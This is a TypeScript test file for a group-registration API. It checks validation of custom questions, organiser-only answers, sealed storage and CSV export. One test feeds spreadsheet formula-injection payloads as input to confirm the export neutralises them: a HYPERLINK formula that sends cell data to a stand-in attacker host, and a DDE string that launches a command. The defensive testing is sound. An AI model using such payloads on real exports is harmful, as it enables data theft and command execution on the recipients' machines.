/**
 * A group's own registration questions: organisers configure them, people answer them in the
 * API and the form, wrong answers are refused beside the question, and only the organisers
 * see the answers.
 */
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readSealed } from '../privacy/crypto.ts';
import type { Database } from '../db/database.ts';
import { buildApp } from '../http/app.ts';
import { type App } from '../http/context.ts';
import { testDatabases } from '../../test/support/databases.ts';
import { bearer, groupBody, makeOrganisation, tokenFor } from '../../test/support/fixtures.ts';

const NOW = new Date('2026-11-22T10:00:00Z');

const QUESTIONS = [
  {
    key: 'due_date',
    label: { fi: 'Laskettu aika', sv: 'Beräknad tid', en: 'Due date' },
    kind: 'date',
    required: true,
  },
  {
    key: 'children',
    label: { fi: 'Lasten määrä', sv: 'Antal barn', en: 'Number of children' },
    kind: 'number',
    required: false,
    min: 0,
    max: 10,
  },
  {
    key: 'language_help',
    label: { fi: 'Tarvitsetko tulkin?', sv: 'Behöver du tolk?', en: 'Do you need an interpreter?' },
    kind: 'yes_no',
    required: false,
  },
  {
    key: 'area',
    label: { fi: 'Alue', sv: 'Område', en: 'Area' },
    kind: 'choice',
    required: true,
    options: [
      { value: 'hervanta', label: { fi: 'Hervanta', sv: 'Hervanta', en: 'Hervanta' } },
      { value: 'tesoma', label: { fi: 'Tesoma', sv: 'Tesoma', en: 'Tesoma' } },
    ],
  },
];

for (const target of testDatabases()) {
  describe(`registration questions on ${target.name}`, () => {
    let db: Database;
    let dispose: () => Promise<void>;
    let app: App;
    let orgId: string;
    let token: string;

    before(async () => {
      ({ db, dispose } = await target.create());
      app = await buildApp({ db, clock: () => NOW });
      const org = await makeOrganisation(db);
      orgId = org.id;
      token = await tokenFor(db, org.id, 'coordinator');
    });
    after(async () => {
      await app.close();
      await dispose();
    });

    async function groupWithQuestions() {
      const created = await app.inject({
        method: 'POST',
        url: '/api/v1/groups',
        headers: bearer(token),
        payload: groupBody(orgId, {
          how_to_join: 'registration',
          capacity: 5,
          registration_questions: QUESTIONS,
        }),
      });
      assert.equal(created.statusCode, 201, created.body);
      const group = created.json<{ id: string; slug: string }>();
      await app.inject({
        method: 'PUT',
        url: `/api/v1/groups/${group.id}/remote-details`,
        headers: bearer(token),
        payload: { url: 'https://meet.example.fi/x' },
      });
      const published = await app.inject({
        method: 'POST',
        url: `/api/v1/groups/${group.id}/lifecycle`,
        headers: bearer(token),
        payload: { action: 'publish' },
      });
      assert.equal(published.statusCode, 200, published.body);
      return group;
    }

    const person = { display_name: 'Aino', email: 'aino@example.fi', language: 'fi', consent: true };
    const registrationCount = (groupId: string) =>
      db.ownerTransaction(
        async (tx) =>
          (
            await tx.query<{ n: number }>(
              'SELECT count(*)::int AS n FROM registrations WHERE group_id = $1',
              [groupId],
            )
          ).rows[0]!.n,
      );

    it('shows the questions on the group and refuses question lists that do not fit together', async () => {
      const group = await groupWithQuestions();
      const shown = await app.inject({ url: `/api/v1/groups/${group.id}` });
      assert.deepEqual(
        shown.json<{ registration_questions: { key: string }[] }>().registration_questions.map((q) => q.key),
        ['due_date', 'children', 'language_help', 'area'],
      );
      const twice = await app.inject({
        method: 'PATCH',
        url: `/api/v1/groups/${group.id}`,
        headers: bearer(token),
        payload: { registration_questions: [QUESTIONS[0], QUESTIONS[0]] },
      });
      assert.equal(twice.statusCode, 422);
      assert.equal(
        twice.json<{ errors: { field: string }[] }>().errors[0]!.field,
        'registration_questions.1',
      );
      const choiceWithoutOptions = await app.inject({
        method: 'PATCH',
        url: `/api/v1/groups/${group.id}`,
        headers: bearer(token),
        payload: { registration_questions: [{ ...QUESTIONS[3], options: undefined }] },
      });
      assert.equal(choiceWithoutOptions.statusCode, 422, choiceWithoutOptions.body);
    });

    it('refuses missing, wrong and unasked answers, naming each, and saves nothing', async () => {
      const group = await groupWithQuestions();
      const res = await app.inject({
        method: 'POST',
        url: `/api/v1/groups/${group.id}/registrations`,
        payload: { ...person, answers: { children: 12, area: 'kaleva', shoe_size: '42' } },
      });
      assert.equal(res.statusCode, 422, res.body);
      assert.match(res.headers['content-type'] as string, /application\/problem\+json/);
      assert.deepEqual(
        res
          .json<{ errors: { field: string }[] }>()
          .errors.map((e) => e.field)
          .sort(),
        ['answers.area', 'answers.children', 'answers.due_date', 'answers.shoe_size'],
      );
      assert.equal(await registrationCount(group.id), 0);
      const badDate = await app.inject({
        method: 'POST',
        url: `/api/v1/groups/${group.id}/registrations`,
        payload: { ...person, answers: { due_date: '2027-02-30', area: 'tesoma' } },
      });
      assert.equal(badDate.statusCode, 422);
      assert.equal(badDate.json<{ errors: { field: string }[] }>().errors[0]!.field, 'answers.due_date');
    });

    it('keeps the answers for the organisers: participant list and CSV', async () => {
      const group = await groupWithQuestions();
      const res = await app.inject({
        method: 'POST',
        url: `/api/v1/groups/${group.id}/registrations`,
        payload: {
          ...person,
          answers: { due_date: '2027-03-01', children: '2', language_help: true, area: 'hervanta' },
        },
      });
      assert.equal(res.statusCode, 201, res.body);
      const list = await app.inject({
        url: `/api/v1/groups/${group.id}/registrations`,
        headers: bearer(token),
      });
      assert.deepEqual(list.json<{ items: { answers: unknown }[] }>().items[0]!.answers, {
        due_date: '2027-03-01',
        children: 2,
        language_help: true,
        area: 'hervanta',
      });
      const csv = await app.inject({
        url: `/api/v1/groups/${group.id}/registrations.csv`,
        headers: bearer(token),
      });
      assert.equal(
        csv.body,
        '\ufeffname,email,phone,status,language,Due date,Number of children,Do you need an interpreter?,Area\n' +
          'Aino,aino@example.fi,,confirmed,fi,2027-03-01,2,yes,hervanta\n',
      );
      const publicView = await app.inject({ url: `/api/v1/groups/${group.id}` });
      assert.doesNotMatch(publicView.body, /2027-03-01/);
    });

    it('writes no cell of the CSV that a spreadsheet would run as a formula: names, answers and labels', async () => {
      const created = await app.inject({
        method: 'POST',
        url: '/api/v1/groups',
        headers: bearer(token),
        payload: groupBody(orgId, {
          how_to_join: 'registration',
          capacity: 5,
          registration_questions: [
            {
              key: 'note',
              label: { fi: '=1+1', sv: '=1+1', en: '@SUM(1+1)' },
              kind: 'text',
              required: false,
            },
            {
              key: 'kids',
              label: { fi: 'Lapset', sv: 'Barn', en: 'Children' },
              kind: 'number',
              required: false,
            },
          ],
        }),
      });
      assert.equal(created.statusCode, 201, created.body);
      const group = created.json<{ id: string }>();
      await app.inject({
        method: 'PUT',
        url: `/api/v1/groups/${group.id}/remote-details`,
        headers: bearer(token),
        payload: { url: 'https://meet.example.fi/x' },
      });
      await app.inject({
        method: 'POST',
        url: `/api/v1/groups/${group.id}/lifecycle`,
        headers: bearer(token),
        payload: { action: 'publish' },
      });
      const res = await app.inject({
        method: 'POST',
        url: `/api/v1/groups/${group.id}/registrations`,
        payload: {
          ...person,
          display_name: '=HYPERLINK("http://evil.example/?d="&A2,"click")',
          answers: { note: '-2+3+cmd|" /C calc"!A0', kids: '0' },
        },
      });
      assert.equal(res.statusCode, 201, res.body);
      const csv = await app.inject({
        url: `/api/v1/groups/${group.id}/registrations.csv`,
        headers: bearer(token),
      });
      assert.equal(csv.statusCode, 200);
      assert.equal(
        csv.body,
        "\ufeffname,email,phone,status,language,'@SUM(1+1),Children\n" +
          '"\'=HYPERLINK(""http://evil.example/?d=""&A2,""click"")",aino@example.fi,,confirmed,fi,"\'-2+3+cmd|"" /C calc""!A0",0\n',
      );
    });

    it('asks the questions in the form, keeps what was typed and puts each message beside its question', async () => {
      const group = await groupWithQuestions();
      const form = await app.inject({ url: `/sv/groups/${group.slug}/register` });
      assert.equal(form.statusCode, 200);
      assert.match(form.body, /Beräknad tid \(obligatorisk\)/);
      assert.match(form.body, /type="date"/);
      assert.match(form.body, /name="answer_area" value="tesoma"/);

      const post = (body: string) =>
        app.inject({
          method: 'POST',
          url: `/en/groups/${group.slug}/register`,
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
          payload: body,
        });
      const wrong = await post(
        'display_name=Aino&email=aino2%40example.fi&consent=yes&answer_children=eleven&answer_area=tesoma',
      );
      assert.equal(wrong.statusCode, 400);
      assert.match(wrong.body, /id="answer_due_date-error"[^>]*>Answer this question\./);
      assert.match(wrong.body, /id="answer_children-error"[^>]*>Give a whole number from 0 to 10\./);
      assert.match(wrong.body, /value="eleven"/);
      assert.match(wrong.body, /id="answer_area-tesoma"[^>]*checked/);
      assert.equal(await registrationCount(group.id), 0);

      const right = await post(
        'display_name=Aino&email=aino2%40example.fi&consent=yes&answer_due_date=2027-03-01&answer_children=1&answer_language_help=no&answer_area=tesoma',
      );
      assert.equal(right.statusCode, 200, right.body);
      // The answers are sealed apart (src/privacy/crypto.ts); the row's own column stays empty.
      const stored = await db.ownerTransaction(async (tx) => {
        const row = (
          await tx.query<{ id: string; answers: unknown }>(
            'SELECT id, answers FROM registrations WHERE group_id = $1',
            [group.id],
          )
        ).rows[0]!;
        assert.deepEqual(row.answers, {});
        return (await readSealed(tx, 'registrations', 'answers', [row.id])).get(row.id);
      });
      assert.deepEqual(stored, { due_date: '2027-03-01', children: 1, language_help: false, area: 'tesoma' });
    });
  });
}
